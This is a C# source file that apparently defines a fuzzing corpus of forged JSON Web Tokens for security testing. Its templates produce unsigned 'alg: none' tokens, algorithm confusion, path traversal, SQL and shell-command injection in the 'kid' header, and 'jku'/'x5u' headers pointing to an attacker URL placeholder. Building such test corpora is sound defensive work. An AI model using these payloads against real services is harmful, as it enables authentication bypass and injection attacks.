namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Web tokens that ask for no signature, or for a key of the sender.</summary>
/// <remarks>OWASP WSTG-SESS-10, CAPEC-115, CWE-347; RFC 7515, RFC 7519.</remarks>
internal static class Tokens
{
    public const string Text = """"
        §jwt
        3× eyJhbGciOiJub25lIi«wi¦wg¦J9.eyJ»«rand→b64clean»«rand→b64clean».eyJ«rand→b64clean»«rand→b64clean».
        {"alg":"«none¦None¦NONE¦nOnE¦HS256»"«¦,"typ":"JWT"»«¦,"kid":"«../../../../dev/null¦«word»' UNION SELECT 'key¦|«shellcmd»¦/dev/null»"¦,"jku":"«evilurl»"¦,"x5u":"«evilurl»"¦,"jwk":{"kty":"RSA","n":"«rand»"}»}
        «jwtalg→b64clean».eyJ«rand→b64clean»«rand→b64clean».
        §jwtalg
        {"alg":"«none¦None¦nOnE»","typ":"JWT"}
        {"typ":"JWT","alg":"«none¦HS256»","kid":"«../../../dev/null¦«word»' or '1'='1»"}
        """";
}
